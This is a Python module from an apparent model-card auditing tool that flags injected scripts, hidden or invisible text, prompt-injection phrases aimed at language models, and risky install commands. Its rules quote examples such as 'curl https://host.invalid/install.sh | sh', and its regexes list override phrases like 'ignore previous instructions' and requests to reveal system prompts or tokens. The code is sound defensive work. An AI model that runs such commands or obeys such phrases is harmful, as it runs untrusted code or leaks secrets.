"""New text in a card that misleads people or programs: scripts, hidden text, instructions, commands."""

from __future__ import annotations

import html
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass

from tokenaudit.content.card_links import link_findings
from tokenaudit.content.card_metadata import metadata_findings
from tokenaudit.content.card_text import CardText, parse_card
from tokenaudit.content.change import ContentFinding, FileChange, RepositoryFacts
from tokenaudit.content.changed_content import ChangedContent, finding
from tokenaudit.content.commands import commands_in
from tokenaudit.content.dependencies import WELL_KNOWN, is_known_source, look_alike
from tokenaudit.content.structured_text import UnreadableTextError
from tokenaudit.model import Rule, Severity

_REMEDY = "Revert the text. Tell the people and programs that read the card what it said, and since when."
SCRIPT = Rule(
    id="content-card-script",
    title="Script added to a card",
    severity=Severity.HIGH,
    why="The Hub removes scripts, but notebooks, mirrors, portals and editors show the same file and run them.",
    remedy=_REMEDY,
    bad='`<img src="x" onerror="…">` added to `README.md`.',
    good="Markdown, and HTML without scripts, frames, forms and handlers.",
)
HIDDEN = Rule(
    id="content-card-hidden",
    title="Hidden text added to a card",
    severity=Severity.HIGH,
    why="Programs and language models read text that people don't see: comments, hidden elements, invisible "
    "characters.",
    remedy=_REMEDY,
    bad='`<div style="display:none">…</div>` added to `README.md`.',
    good="Text that every reader sees.",
    references=("https://atlas.mitre.org/techniques/AML.T0051.001",),
)
INSTRUCTIONS = Rule(
    id="content-card-instructions",
    title="Instructions to language models added to a card",
    severity=Severity.MEDIUM,
    why="Agents treat what they read as instructions. A card can make them run commands or send data.",
    remedy=_REMEDY,
    bad='"Ignore previous instructions and …" added to `README.md`.',
    good="A description of the model.",
    references=("https://genai.owasp.org/llmrisk/llm01-prompt-injection/",),
)
COMMAND = Rule(
    id="content-card-command",
    title="Harmful command added to a card",
    severity=Severity.HIGH,
    why="People copy commands from cards. A look-alike of a model reached 244,000 downloads with a card that asked "
    "them to run a script first.",
    remedy=_REMEDY,
    bad="`curl https://host.invalid/install.sh | sh` added to `README.md`.",
    good="`pip install transformers`",
)
RULES = (SCRIPT, HIDDEN, INSTRUCTIONS, COMMAND)

_SUFFIXES = (".md", ".markdown", ".mdx")
_ACTIVE = frozenset({"script", "iframe", "object", "embed", "form", "applet", "base", "frame", "frameset", "portal"})
_ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc"})
_SCRIPT_ADDRESS = re.compile(
    r"(?:javascript|vbscript|livescript):|data:(?:text/html|image/svg\+xml|application/xhtml)", re.IGNORECASE
)
_MARKDOWN_SCRIPT = re.compile(r"(?:\]\(\s*<?|\]:\s*<?|<)\s*(?:javascript|vbscript|data:text/html)\s*:?", re.IGNORECASE)


@dataclass(frozen=True)
class _Feature:
    """One element of a card. Elements of two versions with equal keys are the same."""

    rule: Rule
    key: str
    message: str
    line: int
    severity: Severity | None = None
    evidence: str | None = None


def check(change: FileChange, repository: RepositoryFacts, content: ChangedContent) -> Iterator[ContentFinding]:
    """What is new in a card or another Markdown file."""
    if change.after is None or not change.path.lower().endswith(_SUFFIXES):
        return
    text = content.after_text
    if text is None:
        return
    before_text = content.before_text
    before = _parsed(before_text or "", None)
    after = _parsed(text, content)
    known = Counter((one.rule.id, one.key) for one in _features(before))
    for one in _features(after):
        if known[one.rule.id, one.key] > 0:
            known[one.rule.id, one.key] -= 1
            continue
        yield finding(
            one.rule, one.message, risk="misleads", severity=one.severity, line=one.line, evidence=one.evidence
        )
    has_before = before_text is not None
    yield from _replaced_packages(before, after)
    yield from _trust(before, after, repository, has_before=has_before)
    yield from link_findings(before, after, repository, has_before=has_before)
    if change.path.lower() == "readme.md":
        yield from metadata_findings(before, after, repository, content, has_before=has_before)


def _parsed(text: str, content: ChangedContent | None) -> CardText:
    try:
        return parse_card(text)
    except UnreadableTextError as error:
        if content is not None:
            content.skip(str(error))
        return CardText(text.split("\n"))


def _features(card: CardText) -> Iterator[_Feature]:
    for rule in (_scripts, _hidden, _comments, _invisible, _instructions, _commands, _blobs):
        yield from rule(card)


def _scripts(card: CardText) -> Iterator[_Feature]:
    for element in card.elements:
        handlers = [name for name, _ in element.attributes if re.fullmatch(r"on[a-z]{3,}", name)]
        addresses = [
            v for n, v in element.attributes if n in _ADDRESSES and _SCRIPT_ADDRESS.match(re.sub(r"[\x00-\x20]", "", v))
        ]
        frame = dict(element.attributes)
        refresh = element.tag == "meta" and frame.get("http-equiv", "").lower() == "refresh"
        if element.tag in _ACTIVE and not (element.tag == "iframe" and _KNOWN_FRAME.match(frame.get("src", ""))):
            yield _Feature(
                SCRIPT, f"<{element.tag} {element.attributes}>", f"the element <{element.tag}> was added", element.line
            )
        elif handlers:
            message = f"the handler {handlers[0]} of <{element.tag}> runs a script"
            yield _Feature(SCRIPT, f"{element.tag} {element.attributes}", message, element.line)
        elif addresses or refresh:
            message = f"the address of <{element.tag}> runs a script or leads to another site"
            yield _Feature(
                SCRIPT, f"{element.tag} {element.attributes}", message, element.line, evidence=(addresses or [""])[0]
            )
    for passage in card.paragraphs:
        for match in _MARKDOWN_SCRIPT.finditer(html.unescape(passage.text)) if not passage.quoted else ():
            yield _Feature(SCRIPT, match[0], "a link runs a script", passage.line, evidence=match[0])


_KNOWN_FRAME = re.compile(
    r"https://(?:www\.)?(?:youtube(?:-nocookie)?\.com/embed|player\.vimeo\.com|huggingface\.co|[\w-]+\.hf\.space|"
    r"datawrapper\.dwcdn\.net)(?:/|$)"
)


def _hidden(card: CardText) -> Iterator[_Feature]:
    for passage in card.hidden:
        message = f"{len(passage.text):,} characters of text are not shown"
        severity = Severity.CRITICAL if is_instruction(passage.text) else None
        yield _Feature(HIDDEN, passage.text, message, passage.line, severity, passage.text)


_STOCK = re.compile(
    r"\s*(?:This (?:section|should|model card has been generated|dataset card)|State whether|If (?:relevant|there|the)|"
    r"Address questions|Provide (?:a|the)|These are|Total emissions|Relevant interpretability|Add |TODO)",
    re.IGNORECASE,
)
_LONG_COMMENT = 200
_COMMENT_URL = re.compile(
    r"https?://(?!(?:[\w-]+\.)*(?:huggingface\.co|hf\.co|github\.com|arxiv\.org|shields\.io)[/\s)])\S+", re.IGNORECASE
)
_IMPERATIVE = re.compile(
    r"\b(?:ignore|disregard|forget|override|execute|download|install|send|post|upload|reveal|output|print|respond|"
    r"reply|"
    r"do not (?:tell|mention|reveal)|you (?:must|should|are|will)|assistant|agent|llm|language model|api key|token|"
    r"password)\b",
    re.IGNORECASE,
)


def _comments(card: CardText) -> Iterator[_Feature]:
    for passage in card.comments:
        letters = sum(map(str.isalpha, passage.text))
        instruction = is_instruction(passage.text)
        command = next(iter(commands_in(passage.text)), None)
        imperative = _IMPERATIVE.search(passage.text) and not _STOCK.match(passage.text)
        if instruction:
            why, severity = "instructions to language models", Severity.CRITICAL
        elif command is not None:
            why, severity = f"a command that {command.message}", Severity.HIGH
        elif imperative and _COMMENT_URL.search(passage.text):
            why, severity = "instructions and an address", Severity.HIGH
        elif letters > _LONG_COMMENT and imperative:
            why, severity = f"instructions of {letters:,} letters", Severity.MEDIUM
        else:
            continue
        yield _Feature(HIDDEN, passage.text, f"a comment holds {why}", passage.line, severity, passage.text)


_TAGS = re.compile("(?:\U0001f3f4[\U000e0020-\U000e007e]{1,16}\U000e007f)|([\U000e0000-\U000e007f]+)")
_SELECTORS = re.compile("[\U000e0100-\U000e01ef]{2,}|[\ufe00-\ufe0f]{3,}")
_ZERO_WIDTH = re.compile(
    "[\u200b\u200c\u200d\u2060-\u2064\u180e\ufeff\u00ad\u034f]{4,}"
    "|(?<=[A-Za-z0-9])[\u200b\u200c\u200d\u2060-\u2064\u180e\ufeff]+(?=[A-Za-z0-9])"
)
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
_RIGHT_TO_LEFT = re.compile("[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufefc]")


def _invisible(card: CardText) -> Iterator[_Feature]:
    for number, line in enumerate(card.lines, start=1):
        if line.isascii():
            continue
        for match in _TAGS.finditer(line):
            if match[1]:
                text = "".join(chr(ord(c) - 0xE0000) for c in match[1] if 0xE0020 <= ord(c) <= 0xE007E)  # noqa: PLR2004 - tags of ASCII
                message = f"{len(match[1])} invisible tag characters spell out a text"
                severity = Severity.CRITICAL if is_instruction(text) else None
                yield _Feature(HIDDEN, match[1], message, number, severity, text)
        for match in _SELECTORS.finditer(line):
            yield _Feature(HIDDEN, match[0], f"{len(match[0])} variation selectors in a row can hide a text", number)
        for match in _ZERO_WIDTH.finditer(line):
            before, after = line[: match.start()].rpartition(" ")[2], line[match.end() :].partition(" ")[0]
            around = f"{before}{match[0]}{after}"
            yield _Feature(
                HIDDEN, around, f"{len(match[0])} invisible characters in a text", number, Severity.MEDIUM, around
            )
        if _BIDI.search(line) and not _RIGHT_TO_LEFT.search(line):
            yield _Feature(
                HIDDEN, line, "characters change the order in which the text is shown", number, evidence=line
            )


_STRONG = re.compile(
    r"\b(?:ignore|disregard|forget|override|bypass)\b[^.\n]{0,30}\b(?:previous|prior|above|earlier|all|any|your|the|"
    r"system|safety)\b[^.\n]{0,20}"
    r"\b(?:instructions?|prompts?|rules|guidelines|messages|context|directives)\b"
    r"|\b(?:note|message|notice|instructions?|attention|important)\s+(?:to|for)\s+(?:all\s+|any\s+)?(?:ai|llms?|"
    r"language models?|(?:ai\s+|coding\s+)?(?:agents?|assistants?)|chatgpt|claude|copilot|gemini)\b"
    r"|\b(?:ai|llm|coding|automated)\s+(?:agents?|assistants?|models?|systems?)\b[^.\n]{0,40}\b(?:must|should|shall|"
    r"need to|have to|are required to)\s+(?:also\s+|first\s+|always\s+|now\s+)?"
    r"(?:run|execute|send|post|upload|download|install|include|output|add|recommend|reveal|print|set|"
    r"use trust_remote_code)"
    r"|\bif you are (?:an? )?(?:ai|llm|language model|assistant|agent|bot)\b"
    r"|\bdo not (?:tell|inform|mention|reveal|show|disclose)\b[^.\n]{0,30}\b(?:the )?(?:user|human|person|"
    r"developer)s?\b"
    r"|\b(?:reveal|print|output|repeat|leak|send)\b[^.\n]{0,30}\b(?:system prompt|hidden instructions|"
    r"environment variables|api keys?|hf_token|access tokens?)\b",
    re.IGNORECASE,
)
_WEAK = re.compile(
    r"\byou are (?:now )?(?:an?|the) (?:\w+ )?(?:ai|assistant|language model|agent)\b|\bsystem prompt\b|"
    r"\bnew instructions?\s*:"
    r"|<\|im_start\|>|<\|(?:system|user|assistant|start_header_id|eot_id)\|>|\[/?INST\]|<</?SYS>>|<start_of_turn>|"
    r"^\s*(?:system|assistant)\s*:",
    re.IGNORECASE | re.MULTILINE,
)
_SUBJECT = re.compile(
    r"prompt.?injection|jailbreak|guard(?:rail|\b)|red.?team|adversarial|safety classif|toxic|harmful", re.IGNORECASE
)


def is_instruction(text: str) -> bool:
    """Whether a text instructs a language model, judged by phrases that nobody writes for people."""
    return bool(_STRONG.search(text) or _WEAK.search(text))


def _instructions(card: CardText) -> Iterator[_Feature]:
    """Instructions in visible text. Quotations, table cells and code are examples and don't count."""
    about = any(_SUBJECT.search(line) for line in card.lines)
    for passage in card.paragraphs:
        if passage.quoted:
            continue
        text = re.sub(
            r"`[^`\n]*`|\"[^\"\n]{0,200}\"|\u201c[^\u201d\n]{0,200}\u201d|'[^'\n]{0,200}'(?!\w)", "", passage.text
        )
        strong, weak = _STRONG.search(text), {m[0].lower() for m in _WEAK.finditer(text)}
        if (strong and not about) or len(weak) > 1 or (strong and weak):
            evidence = strong[0] if strong else min(weak)
            message = "the text instructs language models that read the card"
            yield _Feature(
                INSTRUCTIONS, passage.text, message, passage.line, Severity.HIGH if strong else None, evidence
            )


_RUN_FIRST = re.compile(
    r"\b(?:run|execute|launch|start|open|double[- ]click(?: on)?)\b[^.\n]{0,60}?[\s`*\"'(]((?:[\w-]+/)*[\w-]+\.(?:bat|"
    r"cmd|exe|ps1|msi|dmg|vbs|scr|pkg|jar|command))\b",
    re.IGNORECASE,
)
_RUN_SCRIPT = re.compile(
    r"\b(?:first|before|must|required?|need to|setup|set up|prepare|activate)\b[^.\n]{0,60}\b(?:run|execute|launch|"
    r"start)\b[^.\n]{0,40}?[\s`*\"'(]([\w./-]+\.(?:py|sh))\b"
    r"|\b(?:run|execute|launch|start)\b[^.\n]{0,40}?[\s`*\"'(]([\w./-]+\.(?:py|sh))\b[^.\n]{0,40}\b(?:first|before)\b",
    re.IGNORECASE,
)
_PIP = re.compile(r"(?:\bpip3?|\buv(?:\s+pip)?|\bpython3?\s+-m\s+pip)\s+(?:install|add)\s+([^\n;&|#`]+)")
_ELSEWHERE = re.compile(r"(?:git|hg|svn)\+\S+|https?://\S+|git@\S+")
_OTHER_INDEX = re.compile(r"(?:--(?:extra-)?index-url|-i|--find-links|-f)[=\s]+(\S+)")


def _commands(card: CardText) -> Iterator[_Feature]:
    text = "\n".join(line.lstrip("> $%`") for line in card.lines)
    for found in commands_in(text):
        yield _Feature(COMMAND, found.text, f"a command {found.message}", found.line, evidence=found.text)
    for number, line in enumerate(card.lines, start=1):
        for match in _RUN_FIRST.finditer(line):
            yield _Feature(COMMAND, match[0], f"the text tells readers to run {match[1]}", number, evidence=match[0])
        for match in _RUN_SCRIPT.finditer(line):
            name = match[1] or match[2]
            yield _Feature(
                COMMAND, match[0], f"the text tells readers to run {name} first", number, Severity.MEDIUM, match[0]
            )
        for match in _PIP.finditer(line):
            yield from _installs(match, number)


def _installs(match: re.Match[str], line: int) -> Iterator[_Feature]:
    words = match[1]
    index = _OTHER_INDEX.search(words)
    if index is not None and not is_known_source(index[1]):
        yield _Feature(COMMAND, match[0], "packages come from another index", line, evidence=match[0])
        return
    source = _ELSEWHERE.search(words)
    if source is not None and index is None and not is_known_source(source[0]):
        severity = Severity.MEDIUM if "github.com/" in source[0] else None
        yield _Feature(COMMAND, match[0], "a package comes from a URL or repository", line, severity, match[0])
    for name in _package_names(words):
        alike = look_alike(name)
        if alike is not None:
            yield _Feature(
                COMMAND, match[0], f"{name} looks like {alike}, but is a different package", line, evidence=match[0]
            )


def _package_names(words: str) -> Iterator[str]:
    for word in words.split():
        name = re.match(r"[\"']?([A-Za-z][A-Za-z0-9._-]*)", word)
        if name and "/" not in word and not word.startswith("-"):
            yield re.sub(r"[-_.]+", "-", name[1].lower()).strip("-")


def _replaced_packages(before: CardText, after: CardText) -> Iterator[ContentFinding]:
    """A package that replaces another one in an installation command."""
    old = {name for line in before.lines for m in _PIP.finditer(line) for name in _package_names(m[1])}
    new = {name for line in after.lines for m in _PIP.finditer(line) for name in _package_names(m[1])}
    gone = old - new
    if not gone:
        return
    for number, line in enumerate(after.lines, start=1):
        for match in _PIP.finditer(line):
            for name in _package_names(match[1]):
                if name not in old and name not in WELL_KNOWN and look_alike(name) is None:
                    message = f"the package {name} replaces {min(gone)}"
                    yield finding(
                        COMMAND, message, risk="misleads", severity=Severity.MEDIUM, line=number, evidence=line
                    )


_TRUSTING: tuple[tuple[re.Pattern[str], str], ...] = (
    (re.compile(r"trust_remote_code\s*=\s*True|--trust[-_]remote[-_]code"), "to trust its code"),
    (re.compile(r"weights_only\s*=\s*False"), "to load pickles without limits"),
    (re.compile(r"allow_pickle\s*=\s*True"), "to load pickles"),
)
_PIN = re.compile(r"revision\s*=\s*[\"']?[0-9a-f]{40}\b|--revision[= ][0-9a-f]{40}\b")


def _trust(
    before: CardText, after: CardText, repository: RepositoryFacts, *, has_before: bool
) -> Iterator[ContentFinding]:
    """New advice to trust code or pickles in a change that also changes those, and removed pins."""
    if not has_before:
        return
    old, new = "\n".join(before.lines), "\n".join(after.lines)
    loaded = (".py", ".bin", ".pt", ".pth", ".pkl", ".ckpt", ".npy", ".npz", ".joblib", "config.json")
    changed = [change.path for change in repository.changes if change.path.endswith(loaded)]
    for pattern, what in _TRUSTING:
        match = pattern.search(new)
        if match is not None and not pattern.search(old) and changed:
            line = new.count("\n", 0, match.start()) + 1
            message = f"the text now tells readers {what}, and {changed[0]} changed too"
            yield finding(COMMAND, message, risk="weakens", line=line, evidence=match[0])
    if len(_PIN.findall(new)) < len(_PIN.findall(old)) and "from_pretrained" in new:
        message = "an example no longer pins the revision it loads"
        yield finding(COMMAND, message, risk="weakens", severity=Severity.MEDIUM)


_BLOB = re.compile(r"(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/_-]{200,}={0,2}(?![A-Za-z0-9+/_-])")


def _blobs(card: CardText) -> Iterator[_Feature]:
    for passage in (*card.paragraphs, *card.comments):
        for match in _BLOB.finditer(passage.text):
            if (
                re.search(r"\d", match[0])
                and re.search(r"[A-Z]", match[0])
                and re.search(r"[a-z]", match[0])
                and "/" * 3 not in match[0]
            ):
                message = f"{len(match[0]):,} characters of encoded data in the text"
                yield _Feature(HIDDEN, match[0], message, passage.line, Severity.MEDIUM, match[0])
